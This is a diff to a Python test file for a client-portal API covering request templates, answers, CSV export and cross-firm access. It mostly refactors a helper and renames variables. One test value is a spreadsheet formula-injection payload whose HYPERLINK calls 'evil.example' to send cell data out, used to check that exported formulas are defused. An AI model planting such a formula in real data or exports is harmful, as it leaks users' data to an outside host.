@@ -9,10 +9,10 @@ import csv
 import io
 from typing import Any
 
-from tests.client_request_helpers import firm_with_contact, send
+from tests.client_request_helpers import answer, firm_with_contact, send
 from tests.contact_helpers import portal_contact
 from tests.factories import create_entity
-from tests.helpers import Actor, Api, problem
+from tests.helpers import Api, problem
 
 QUESTIONS: list[dict[str, Any]] = [
     {"type": "yes_no", "prompt": "Did you move house in 2026?", "required": True},
@@ -142,10 +142,10 @@ async def test_templates_round_trip_and_cross_firm(api: Api) -> None:
         ("PATCH", f"{base}/{template['id']}"),
         ("POST", f"{base}/{template['id']}/archive"),
     ):
-        answer = await api.client.request(
+        found = await api.client.request(
             method, path, json={"title": "x"} if method == "PATCH" else None, headers=other.headers
         )
-        problem(answer, 404, "client_request_template_not_found")
+        problem(found, 404, "client_request_template_not_found")
 
     # The activity log has the template's story.
     log = (await api.client.get("/v1/activity?limit=50", headers=admin.headers)).json()
@@ -161,7 +161,7 @@ async def test_request_from_template_answers_and_csv_across_clients(api: Api, ap
     request's answers as JSON and CSV, formulas defused; save-as-template; cross-firm 404."""
     f = await firm_with_contact(api, app)
     other_entity = await create_entity(api, f.admin, name="Other Client")
-    other_contact, other_actor = await portal_contact(api, app, f.admin, other_entity["id"])
+    other_contact, _ = await portal_contact(api, app, f.admin, other_entity["id"])
     template = (
         await api.client.post(
             "/v1/client-request-templates",
@@ -225,10 +225,8 @@ async def test_request_from_template_answers_and_csv_across_clients(api: Api, ap
 
     # Answers, one of them a formula.
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-    await _portal_answer(
-        api, f.contact_actor, made["id"], {ids[0]: True, "filing": "joint", ids[2]: 2}, True
-    )
-    await _portal_answer(api, other_actor, second["id"], {ids[0]: False, "filing": "single"})
+    await answer(app, made["id"], {ids[0]: True, "filing": "joint", ids[2]: 2}, submit=True)
+    await answer(app, second["id"], {ids[0]: False, "filing": "single"})
     # A long-text question only the second request has (added while it was pending is
     # refused once answered, so: a third request, edited before any answer).
     third = (
@@ -245,7 +243,7 @@ async def test_request_from_template_answers_and_csv_across_clients(api: Api, ap
             ],
         )
     ).json()
-    await _portal_answer(api, other_actor, third["id"], {"notes": formula, ids[2]: -1})
+    await answer(app, third["id"], {"notes": formula, ids[2]: -1})
 
     answers = (
         await api.client.get(f"/v1/client-requests/{made['id']}/answers", headers=f.viewer.headers)
@@ -316,10 +314,10 @@ async def test_request_from_template_answers_and_csv_across_clients(api: Api, ap
         ("GET", f"/v1/client-requests/{made['id']}/answers"),
         ("POST", f"/v1/client-requests/{made['id']}/save-as-template"),
     ):
-        answer = await api.client.request(
+        found = await api.client.request(
             method, path, json={} if method == "POST" else None, headers=other.headers
         )
-        problem(answer, 404, "client_request_not_found")
+        problem(found, 404, "client_request_not_found")
     problem(
         await api.client.get(url, headers=other.headers), 404, "client_request_template_not_found"
     )
@@ -333,17 +331,3 @@ async def test_request_from_template_answers_and_csv_across_clients(api: Api, ap
         headers=other.headers,
     )
     problem(elsewhere, 422, "client_request_template_not_found")
-
-
-async def _portal_answer(
-    api: Api, contact: Actor, request_id: str, answers: dict[str, Any], submit: bool = False
-) -> None:
-    base = f"/v1/portal/client-requests/{request_id}"
-    if answers:
-        saved = await api.client.patch(
-            f"{base}/answers", json={"answers": answers}, headers=contact.headers
-        )
-        assert saved.status_code == 200, saved.text
-    if submit:
-        done = await api.client.post(f"{base}/submit", headers=contact.headers)
-        assert done.status_code == 200, done.text
